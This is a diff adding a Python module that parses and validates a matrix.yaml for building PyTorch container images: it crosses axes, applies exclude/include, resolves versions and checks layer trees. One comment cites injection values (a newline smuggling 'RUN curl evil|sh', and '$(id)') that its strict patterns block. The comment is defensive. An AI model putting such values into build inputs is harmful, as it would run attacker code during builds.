@@ -1,0 +1,551 @@
+"""matrix.yaml -> frozen `Entry` objects.
+
+Axes are crossed, `exclude:` and `include:` applied the way GitHub Actions does, top-level keys are
+cascaded into entries (an entry key overrides the top-level key of the same name), every value is
+validated against a strict pattern for its kind, and each entry is resolved against the
+compatibility table. Nothing here touches the engine or the network.
+"""
+
+from __future__ import annotations
+
+import itertools
+import os
+import re
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+from . import source
+from .compat import CompatTable, Variant, os_python, torch_index_url
+from .errors import InputError, Where, did_you_mean, unknown_key
+
+# Strict patterns, one per kind of value. A value reaches Dockerfiles and shell lines only after
+# it matched one of these, so `2.6.0\nRUN curl evil|sh` or `$(id)` can never be rendered.
+PATTERNS: dict[str, str] = {
+    "torch": r"\d+\.\d+\.\d+",
+    "accelerator": r"cpu|cu\d{3}",
+    "python": r"3\.\d{1,2}",
+    "flavor": r"runtime|devel",
+    "name": r"[a-z0-9][a-z0-9._-]{0,63}",
+    "layer": r"[a-z0-9][a-z0-9_-]{0,63}",
+    "image": r"[a-z0-9]+(?:[._-][a-z0-9]+)*(?::[0-9]{1,5})?(?:/[a-z0-9]+(?:[._-][a-z0-9]+)*)*"
+    r"(?::[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})?(?:@sha256:[a-f0-9]{64})?",
+    "registry": r"(?:[a-zA-Z0-9](?:[a-zA-Z0-9-]*[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]*[a-zA-Z0-9])?)*"
+    r"|\[[0-9a-fA-F:]+\])(?::[0-9]{1,5})?(?:/[a-z0-9]+(?:[._-][a-z0-9]+)*)*",
+    "repository": r"[a-z0-9]+(?:[._-][a-z0-9]+)*(?:/[a-z0-9]+(?:[._-][a-z0-9]+)*)*",
+    "url": r"(?:https?|file)://[A-Za-z0-9._~:/?#@!&'()*+,;=%{}\[\]-]+",
+    "var": r"[A-Za-z0-9._:/@+=,%-]{0,256}",
+    "size": r"\d+[bkmgBKMG]?",
+    "int": r"\d{1,7}",
+    "network": r"host|bridge|none|default",
+    "gpus": r"none|all|auto",
+}
+AXES = ("torch", "accelerator", "python", "flavor", "base_image")
+TORCH_EXTRAS = ("torchvision", "torchaudio")
+ENTRY_ONLY_KEYS = ("name",)
+CASCADED_KEYS = (
+    "base_image", "registry", "repository", "layers", "layers_path", "build", "tags", "vars", "torch_extras", "smoke",
+)
+TOP_KEYS = ("version", "matrix", "exclude", "include", *CASCADED_KEYS)
+BUILD_KEYS = ("ca_bundle", "wheelhouse", "pip_index_url", "index_url", "network")
+SMOKE_KEYS = ("timeout", "shm_size", "gpus")
+DEFAULT_TAGS = ("{torch}-{accelerator}-py{python}-{flavor}-{layer}",)
+CA_ENV = ("PIP_CERT", "REQUESTS_CA_BUNDLE", "SSL_CERT_FILE")
+
+
+@dataclass(frozen=True)
+class LayerSpec:
+    """One node of an entry's layer tree: `name` is unique in the tree, `layer` is the folder."""
+
+    name: str
+    layer: str
+    parent: str | None
+
+
+@dataclass(frozen=True)
+class BuildSettings:
+    ca_bundle: Path | None
+    wheelhouse: Path | None
+    torch_index_url: str
+    index_url: str
+    network: str
+
+
+@dataclass(frozen=True)
+class SmokeSettings:
+    timeout: int
+    shm_size: str
+    gpus: str
+
+
+@dataclass(frozen=True)
+class Entry:
+    """One resolved point of the matrix. Nothing mutates it after `load()`."""
+
+    id: str
+    torch: str
+    accelerator: str
+    python: str
+    flavor: str
+    cuda: str | None
+    cudnn: str | None
+    nccl: str | None
+    triton: str | None
+    torchvision: str | None
+    torchaudio: str | None
+    pins: tuple[tuple[str, str], ...]
+    base_image: str
+    registry: str
+    repository: str
+    layers: tuple[LayerSpec, ...]
+    layers_path: tuple[Path, ...]
+    build: BuildSettings
+    smoke: SmokeSettings
+    tags: tuple[str, ...]
+    vars: tuple[tuple[str, str], ...]
+    where: Where
+
+    def versions(self) -> dict[str, str | None]:
+        """The resolved versions: what the plan promises and the smoke suite checks."""
+        return {
+            "torch": self.torch,
+            "accelerator": self.accelerator,
+            "python": self.python,
+            "flavor": self.flavor,
+            "cuda": self.cuda,
+            "cudnn": self.cudnn,
+            "nccl": self.nccl,
+            "triton": self.triton,
+            "torchvision": self.torchvision,
+            "torchaudio": self.torchaudio,
+        }
+
+    def leaves(self) -> tuple[LayerSpec, ...]:
+        parents = {spec.parent for spec in self.layers}
+        return tuple(spec for spec in self.layers if spec.name not in parents)
+
+
+@dataclass(frozen=True)
+class Matrix:
+    file: Path
+    entries: tuple[Entry, ...]
+    excluded: tuple[tuple[str, str], ...] = ()  # (combination, why)
+    warnings: tuple[str, ...] = field(default=())
+
+
+BasePython = Callable[[str], "str | None"]
+
+
+def load(
+    path: Path,
+    compat: CompatTable,
+    *,
+    env: Mapping[str, str] | None = None,
+    registry: str | None = None,
+    base_python: BasePython | None = None,
+    strict: bool = False,
+) -> Matrix:
+    """Read, expand, validate and resolve a matrix file."""
+    doc = source.load(path)
+    return _Loader(doc, path.resolve().parent, compat, dict(env if env is not None else os.environ),
+                   registry, base_python or os_python, strict).run()
+
+
+class _Loader:
+    def __init__(self, doc: source.Document, root: Path, compat: CompatTable, env: dict[str, str],
+                 registry: str | None, base_python: BasePython | None, strict: bool) -> None:
+        self.doc = doc
+        self.root = root
+        self.compat = compat
+        self.env = env
+        self.registry_override = registry
+        self.base_python = base_python
+        self.strict = strict
+        self.warnings: list[str] = []
+
+    # -- helpers ---------------------------------------------------------------------------
+    def where(self, *path: str | int) -> Where:
+        return self.doc.where(tuple(path))
+
+    def fail(self, message: str, path: tuple[str | int, ...], hint: str | None = None) -> InputError:
+        return InputError(message, where=self.doc.where(path), hint=hint)
+
+    def scalar(self, value: Any, kind: str, path: tuple[str | int, ...]) -> str:
+        if isinstance(value, bool) or value is None or isinstance(value, (dict, list)):
+            raise self.fail(f"expected a {kind} value, got {_describe(value)}", path)
+        text = str(value)
+        if not re.fullmatch(PATTERNS[kind], text):
+            raise self.fail(f"invalid {kind} {text!r}", path, hint=_pattern_hint(kind))
+        return text
+
+    def mapping(self, value: Any, path: tuple[str | int, ...], allowed: tuple[str, ...]) -> dict[str, Any]:
+        if not isinstance(value, dict):
+            raise self.fail(f"expected a mapping, got {_describe(value)}", path)
+        for key in value:
+            if key not in allowed:
+                raise unknown_key(key, allowed, self.doc.where((*path, key)))
+        return value
+
+    def listof(self, value: Any, path: tuple[str | int, ...], *, nonempty: bool = False) -> list[Any]:
+        if not isinstance(value, list):
+            raise self.fail(f"expected a list, got {_describe(value)}", path)
+        if nonempty and not value:
+            raise self.fail("must not be empty", path)
+        return value
+
+    def path_value(self, value: Any, path: tuple[str | int, ...], *, want_dir: bool) -> Path:
+        if not isinstance(value, str) or not value or "\n" in value:
+            raise self.fail(f"expected a path, got {_describe(value)}", path)
+        p = Path(os.path.expanduser(value))
+        p = p if p.is_absolute() else (self.root / p)
+        if want_dir and not p.is_dir():
+            raise self.fail(f"folder {value!r} does not exist (resolved to {p})", path)
+        if not want_dir:
+            if not p.is_file():
+                raise self.fail(f"file {value!r} does not exist (resolved to {p})", path)
+            if not os.access(p, os.R_OK):
+                raise self.fail(f"file {value!r} is not readable", path)
+        return p
+
+    # -- the steps ---------------------------------------------------------------------------
+    def run(self) -> Matrix:
+        top = self.doc.value
+        if not isinstance(top, dict):
+            raise InputError(f"the matrix file must be a mapping of keys, got {_describe(top)}",
+                             where=Where(self.doc.file, 1, 1))
+        self.mapping(top, (), TOP_KEYS)
+        version = top.get("version", "1")
+        if str(version) != "1":
+            raise self.fail(f"unsupported matrix version {version!r}; this imagebuilder reads version 1",
+                            ("version",))
+        for required in ("matrix", "base_image", "repository", "layers"):
+            if required not in top:
+                raise InputError(f"missing required key {required!r}", where=Where(self.doc.file, 1, 1))
+        if "registry" not in top and self.registry_override is None:
+            raise InputError("missing required key 'registry' (or pass --registry)",
+                             where=Where(self.doc.file, 1, 1))
+        # Shape first, so a misspelt key is reported before any entry is resolved.
+        self.mapping(top.get("build") or {}, ("build",), BUILD_KEYS)
+        self.mapping(top.get("smoke") or {}, ("smoke",), SMOKE_KEYS)
+        if "vars" in top:
+            self.mapping(top["vars"] or {}, ("vars",), tuple(top["vars"] or {}))
+        combos, excluded = self.expand(top)
+        entries = [self.entry(top, combo, path) for combo, path in combos]
+        self.check_unique(entries)
+        return Matrix(Path(self.doc.file), tuple(entries), tuple(excluded), tuple(self.warnings))
+
+    def expand(self, top: dict[str, Any]) -> tuple[list[tuple[dict[str, str], tuple[str | int, ...]]],
+                                                     list[tuple[str, str]]]:
+        axes = self.mapping(top["matrix"], ("matrix",), AXES)
+        if not axes:
+            raise self.fail("no axes: give at least `torch` and `accelerator`", ("matrix",))
+        values: dict[str, list[str]] = {}
+        for axis, raw in axes.items():
+            items = self.listof(raw, ("matrix", axis))
+            if not items:
+                raise self.fail("axis is empty: it would produce no entries", ("matrix", axis))
+            kind = "image" if axis == "base_image" else axis
+            values[axis] = [self.scalar(v, kind, ("matrix", axis, i)) for i, v in enumerate(items)]
+            dupes = {v for v in values[axis] if values[axis].count(v) > 1}
+            if dupes:
+                raise self.fail(f"value {sorted(dupes)[0]!r} appears twice", ("matrix", axis))
+        names = list(values)
+        combos: list[tuple[dict[str, str], tuple[str | int, ...]]] = [
+            (dict(zip(names, prod, strict=True)), ("matrix",)) for prod in itertools.product(*values.values())
+        ]
+        excluded: list[tuple[str, str]] = []
+        for i, rule in enumerate(self.listof(top.get("exclude", []), ("exclude",))):
+            path = ("exclude", i)
+            rule = self.mapping(rule, path, tuple(names))
+            if not rule:
+                raise self.fail("an empty exclude would remove every entry", path)
+            want = {k: self.scalar(v, "image" if k == "base_image" else k, (*path, k)) for k, v in rule.items()}
+            kept = []
+            for combo, origin in combos:
+                if all(combo.get(k) == v for k, v in want.items()):
+                    excluded.append((_label(combo), f"exclude[{i}] {_label(want)} ({self.doc.where(path)})"))
+                else:
+                    kept.append((combo, origin))
+            if len(kept) == len(combos):
+                self.note(f"{self.doc.where(path)}: exclude {_label(want)} matches no entry", path)
+            combos = kept
+        originals = [dict(c) for c, _ in combos]
+        extended: list[dict[str, Any]] = [dict(c) for c, _ in combos]
+        added: list[tuple[dict[str, Any], tuple[str | int, ...]]] = []
+        entry_keys = (*AXES, *ENTRY_ONLY_KEYS, *CASCADED_KEYS)
+        for i, rule in enumerate(self.listof(top.get("include", []), ("include",))):
+            path = ("include", i)
+            rule = self.mapping(rule, path, (*tuple(k for k in entry_keys if k != "base_image"), "base_image"))
+            if not rule:
+                raise self.fail("an empty include adds nothing", path)
+            matched = False
+            for orig, ext in zip(originals, extended, strict=True):
+                if all(orig[k] == str(v) for k, v in rule.items() if k in orig):
+                    ext.update(rule)
+                    matched = True
+            if not matched:
+                missing = [a for a in ("torch", "accelerator") if a not in rule]
+                if missing:
+                    raise self.fail(
+                        f"include matches no entry, and as a new entry it lacks {', '.join(missing)}", path)
+                added.append((dict(rule), path))
+        result = [(ext, origin) for ext, (_, origin) in zip(extended, combos, strict=True)] + added
+        if not result:
+            raise self.fail("the matrix has no entries left after exclude", ("exclude",))
+        return result, excluded
+
+    def note(self, message: str, path: tuple[str | int, ...]) -> None:
+        if self.strict:
+            raise self.fail(message.split(": ", 1)[-1] + " (an error under --strict)", path)
+        self.warnings.append(message)
+
+    def cascaded(self, top: dict[str, Any], combo: dict[str, Any], key: str) -> tuple[Any, tuple[str | int, ...]]:
+        if key in combo:
+            return combo[key], ("matrix", key) if key in AXES else (key,)
+        return top.get(key), (key,)
+
+    def entry(self, top: dict[str, Any], combo: dict[str, Any], origin: tuple[str | int, ...]) -> Entry:
+        where = self.doc.where(origin)
+        torch = self.scalar(combo.get("torch"), "torch", (*origin, "torch"))
+        acc = self.scalar(combo.get("accelerator"), "accelerator", (*origin, "accelerator"))
+        flavor = self.scalar(combo.get("flavor", "runtime"), "flavor", (*origin, "flavor"))
+        base_raw, base_path = self.cascaded(top, combo, "base_image")
+        base_image = self.scalar(base_raw, "image", base_path)
+        if "python" in combo:
+            python = self.scalar(combo["python"], "python", (*origin, "python"))
+        else:
+            found = self.base_python(base_image) if self.base_python else None
+            if found is None:
+                raise InputError(
+                    f"no `python` given and the Python of base image {base_image!r} is unknown",
+                    where=where, hint="add a `python:` axis, e.g. python: [\"3.11\"]")
+            python = found
+        label = f"torch {torch}/{acc}/py{python}"
+        variant = self.resolve(torch, acc, python, label, where)
+
+        reg_raw, reg_path = self.cascaded(top, combo, "registry")
+        registry = self.registry_override or self.scalar(reg_raw, "registry", reg_path)
+        if self.registry_override and not re.fullmatch(PATTERNS["registry"], registry):
+            raise InputError(f"invalid registry {registry!r} given by --registry",
+                             hint=_pattern_hint("registry"))
+        repo_raw, repo_path = self.cascaded(top, combo, "repository")
+        repository = self.scalar(repo_raw, "repository", repo_path)
+        layers_raw, layers_path_key = self.cascaded(top, combo, "layers")
+        layers = self.layer_tree(layers_raw, layers_path_key)
+        lp_raw, lp_path = self.cascaded(top, combo, "layers_path")
+        layers_path = tuple(
+            self.path_value(p, (*lp_path, i), want_dir=True)
+            for i, p in enumerate(self.listof(lp_raw or [], lp_path))
+        )
+        build = self.build_settings(top, combo, variant)
+        smoke = self.smoke_settings(top, combo)
+        tags_raw, tags_path = self.cascaded(top, combo, "tags")
+        tags = tuple(self.tag_template(t, (*tags_path, i))
+                     for i, t in enumerate(self.listof(tags_raw, tags_path, nonempty=True))) \
+            if tags_raw is not None else DEFAULT_TAGS
+        extras_raw, extras_path = self.cascaded(top, combo, "torch_extras")
+        extras = set(TORCH_EXTRAS) if extras_raw is None else {
+            self.choice(x, TORCH_EXTRAS, (*extras_path, i)) for i, x in enumerate(self.listof(extras_raw, extras_path))
+        }
+        release = self.compat.release(torch)
+        assert release is not None  # resolve() checked it
+        merged_vars = {**(top.get("vars") or {}), **(combo.get("vars") or {})}
+        var_pairs = []
+        for k, v in sorted(self.mapping(merged_vars, ("vars",), tuple(merged_vars)).items()):
+            if not re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]{0,63}", k):
+                raise self.fail(f"invalid variable name {k!r}", ("vars", k))
+            var_pairs.append((k, self.scalar(v, "var", ("vars", k))))
+        entry_id = combo.get("name")
+        if entry_id is not None:
+            entry_id = self.scalar(entry_id, "name", (*origin, "name"))
+        else:
+            entry_id = f"{torch}-{acc}-py{python}-{flavor}"
+            if "base_image" in top.get("matrix", {}):
+                entry_id += "-" + re.sub(r"[^a-z0-9.]+", "-", base_image.lower()).strip("-")
+        return Entry(
+            id=entry_id, torch=torch, accelerator=acc, python=python, flavor=flavor,
+            cuda=variant.cuda, cudnn=variant.cudnn, nccl=variant.nccl, triton=variant.triton,
+            torchvision=release.torchvision if "torchvision" in extras else None,
+            torchaudio=release.torchaudio if "torchaudio" in extras else None,
+            pins=variant.packages, base_image=base_image, registry=registry, repository=repository,
+            layers=layers, layers_path=layers_path, build=build, smoke=smoke, tags=tags,
+            vars=tuple(var_pairs), where=where,
+        )
+
+    def choice(self, value: Any, allowed: tuple[str, ...], path: tuple[str | int, ...]) -> str:
+        if value not in allowed:
+            hint = did_you_mean(str(value), allowed) or f"one of: {', '.join(allowed)}"
+            raise self.fail(f"unknown value {value!r}", path, hint=hint)
+        return str(value)
+
+    def resolve(self, torch: str, acc: str, python: str, label: str, where: Where) -> Variant:
+        release = self.compat.release(torch)
+        if release is None:
+            known = [r.torch for r in self.compat.releases]
+            near = did_you_mean(torch, known)
+            raise InputError(
+                f"{label}: torch {torch} is not in the compatibility table "
+                f"({known[0] if known else '?'} .. {self.compat.newest()})",
+                where=where, hint=near or "run `imagebuilder compat show` to list the known releases")
+        variant = release.variant(acc)
+        if variant is None:
+            offered = ", ".join(v.accelerator for v in release.variants)
+            raise InputError(
+                f"{label}: torch {torch} publishes {offered}; not {acc}", where=where,
+                hint="nearest supported: " + ", ".join(self.compat.nearest(torch, acc)))
+        if not release.supports_python(python):
+            offered = ", ".join(release.python) or release.requires_python or "?"
+            raise InputError(f"{label}: torch {torch} supports Python {offered}; not {python}", where=where)
+        return variant
+
+    def layer_tree(self, raw: Any, path: tuple[str | int, ...]) -> tuple[LayerSpec, ...]:
+        items = self.listof(raw, path, nonempty=True)
+        specs: list[LayerSpec] = []
+        previous: str | None = None
+        for i, item in enumerate(items):
+            ipath = (*path, i)
+            if isinstance(item, str):
+                layer = self.scalar(item, "layer", ipath)
+                spec = LayerSpec(layer, layer, previous)
+            else:
+                m = self.mapping(item, ipath, ("layer", "name", "parent"))
+                if "layer" not in m:
+                    raise self.fail("a layer mapping needs `layer:` (the folder name)", ipath)
+                layer = self.scalar(m["layer"], "layer", (*ipath, "layer"))
+                name = self.scalar(m.get("name", layer), "layer", (*ipath, "name"))
+                parent = previous if "parent" not in m else (
+                    None if m["parent"] is None else self.scalar(m["parent"], "layer", (*ipath, "parent")))
+                spec = LayerSpec(name, layer, parent)
+            if any(s.name == spec.name for s in specs):
+                raise self.fail(f"layer node {spec.name!r} appears twice; give one a distinct `name:`", ipath)
+            specs.append(spec)
+            previous = spec.name
+        names = [s.name for s in specs]
+        for i, spec in enumerate(specs):
+            if spec.parent is not None and spec.parent not in names:
+                raise self.fail(f"parent {spec.parent!r} of layer {spec.name!r} is not in this layer tree",
+                                (*path, i), hint=did_you_mean(spec.parent, names))
+        return tuple(_tree_order(specs, self.doc.where(path)))
+
+    def build_settings(self, top: dict[str, Any], combo: dict[str, Any], variant: Variant) -> BuildSettings:
+        top_build = self.mapping(top.get("build") or {}, ("build",), BUILD_KEYS)
+        entry_build = self.mapping(combo.get("build") or {}, ("build",), BUILD_KEYS)
+        merged = {**top_build, **entry_build}
+        ca: Path | None = None
+        if merged.get("ca_bundle") is not None:
+            ca = self.path_value(merged["ca_bundle"], ("build", "ca_bundle"), want_dir=False)
+        else:
+            for name in CA_ENV:
+                if self.env.get(name):
+                    candidate = Path(self.env[name])
+                    if not (candidate.is_file() and os.access(candidate, os.R_OK)):
+                        raise InputError(f"CA bundle {candidate} from ${name} is not a readable file",
+                                         where=self.doc.where(("build",)),
+                                         hint="set build.ca_bundle, or unset the variable")
+                    ca = candidate
+                    break
+        wheelhouse = None
+        if merged.get("wheelhouse") is not None:
+            wheelhouse = self.path_value(merged["wheelhouse"], ("build", "wheelhouse"), want_dir=True)
+        index_url = self.scalar(merged.get("index_url", "https://pypi.org/simple"), "url", ("build", "index_url"))
+        piu = merged.get("pip_index_url")
+        if piu is None:
+            torch_url = torch_index_url(variant)
+        elif isinstance(piu, dict):
+            piu = self.mapping(piu, ("build", "pip_index_url"), tuple(piu))
+            if variant.accelerator in piu:
+                acc_path = ("build", "pip_index_url", variant.accelerator)
+                torch_url = self.scalar(piu[variant.accelerator], "url", acc_path)
+            else:
+                torch_url = torch_index_url(variant)
+        else:
+            torch_url = self.scalar(piu, "url", ("build", "pip_index_url"))
+        torch_url = torch_url.replace("{accelerator}", variant.accelerator)
+        if "{" in torch_url:
+            raise self.fail(f"unknown placeholder in {torch_url!r}; only {{accelerator}} is known",
+                            ("build", "pip_index_url"))
+        network = self.scalar(merged.get("network", "host"), "network", ("build", "network"))
+        return BuildSettings(ca, wheelhouse, torch_url, index_url, network)
+
+    def smoke_settings(self, top: dict[str, Any], combo: dict[str, Any]) -> SmokeSettings:
+        merged = {**self.mapping(top.get("smoke") or {}, ("smoke",), SMOKE_KEYS),
+                  **self.mapping(combo.get("smoke") or {}, ("smoke",), SMOKE_KEYS)}
+        timeout = int(self.scalar(merged.get("timeout", "900"), "int", ("smoke", "timeout")))
+        shm = self.scalar(merged.get("shm_size", "2g"), "size", ("smoke", "shm_size"))
+        gpus = self.scalar(merged.get("gpus", "auto"), "gpus", ("smoke", "gpus"))
+        return SmokeSettings(timeout, shm, gpus)
+
+    def tag_template(self, value: Any, path: tuple[str | int, ...]) -> str:
+        if not isinstance(value, str) or not value:
+            raise self.fail(f"a tag template must be a string, got {_describe(value)}", path)
+        return value
+
+    def check_unique(self, entries: list[Entry]) -> None:
+        seen: dict[str, Entry] = {}
+        for e in entries:
+            if e.id in seen:
+                first = seen[e.id]
+                same = first.versions() == e.versions() and first.layers == e.layers and first.build == e.build
+                what = "duplicate entries" if same else "two entries share the id"
+                raise InputError(f"{what} {e.id!r} (first from {first.where})", where=e.where,
+                                 hint="remove one, or give one a distinct `name:` in its include")
+            seen[e.id] = e
+
+
+def _tree_order(specs: list[LayerSpec], where: Where) -> list[LayerSpec]:
+    """Parents before children, keeping the written order otherwise; a cycle is an input error."""
+    by_name = {s.name: s for s in specs}
+    done: list[LayerSpec] = []
+    state: dict[str, int] = {}
+
+    def visit(spec: LayerSpec, trail: list[str]) -> None:
+        if state.get(spec.name) == 2:
+            return
+        if state.get(spec.name) == 1:
+            cycle = " -> ".join([*trail[trail.index(spec.name):], spec.name])
+            raise InputError(f"the layer tree has a cycle: {cycle}", where=where)
+        state[spec.name] = 1
+        if spec.parent is not None:
+            visit(by_name[spec.parent], [*trail, spec.name])
+        state[spec.name] = 2
+        done.append(spec)
+
+    for spec in specs:
+        visit(spec, [])
+    if not any(s.parent is None for s in specs):
+        raise InputError("the layer tree has no root (every layer names a parent)", where=where)
+    return done
+
+
+def _describe(value: Any) -> str:
+    if value is None:
+        return "nothing"
+    if isinstance(value, bool):
+        return f"boolean {str(value).lower()}"
+    if isinstance(value, dict):
+        return "a mapping"
+    if isinstance(value, list):
+        return "a list"
+    return repr(value)
+
+
+def _label(combo: Mapping[str, Any]) -> str:
+    return ", ".join(f"{k}={v}" for k, v in combo.items() if not isinstance(v, (dict, list)))
+
+
+def _pattern_hint(kind: str) -> str:
+    examples = {
+        "torch": "a release version such as 2.6.0",
+        "accelerator": "cpu or cuNNN, e.g. cu124",
+        "python": "major.minor as a string, e.g. \"3.11\"",
+        "flavor": "runtime or devel",
+        "registry": "host[:port][/namespace], e.g. 127.0.0.1:5000/ml",
+        "repository": "lowercase path components, e.g. pytorch or ml/pytorch",
+        "image": "an image reference such as debian:bookworm",
+        "layer": "lowercase letters, digits, '-' and '_'",
+        "name": "lowercase letters, digits, '.', '-' and '_'",
+        "url": "an http(s):// or file:// URL",
+        "var": "letters, digits and ._:/@+=,%- (no spaces or shell characters)",
+    }
+    return examples.get(kind, f"must match {PATTERNS[kind]}")
